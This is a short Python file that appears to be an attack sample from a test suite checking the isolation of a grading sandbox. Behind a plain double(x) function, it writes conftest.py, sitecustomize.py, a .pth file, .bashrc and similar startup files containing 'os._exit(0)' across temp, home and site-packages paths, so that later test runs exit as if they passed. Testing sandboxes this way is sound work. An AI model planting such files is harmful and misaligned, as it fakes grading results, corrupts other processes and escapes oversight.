"""Writes files that Python and pytest run when they start: conftest.py, pytest.ini, sitecustomize.py, a .pth.

Claim: the next process that starts in, or beside, its folder runs the student's code
Class: staying for the next task or submission
Stopped by: every process is killed and every file removed between tasks and between submissions
"""

import os
import site
import sys

PLACES = [".", os.environ["TMPDIR"], os.environ["HOME"], "COURSE", *sys.path, *site.getsitepackages(), site.getusersitepackages()]


def double(x):
    for place in PLACES:
        for name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "evil.pth", ".bashrc"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write("import os; os._exit(0)\n")
            except OSError:
                pass
    return 2 * x
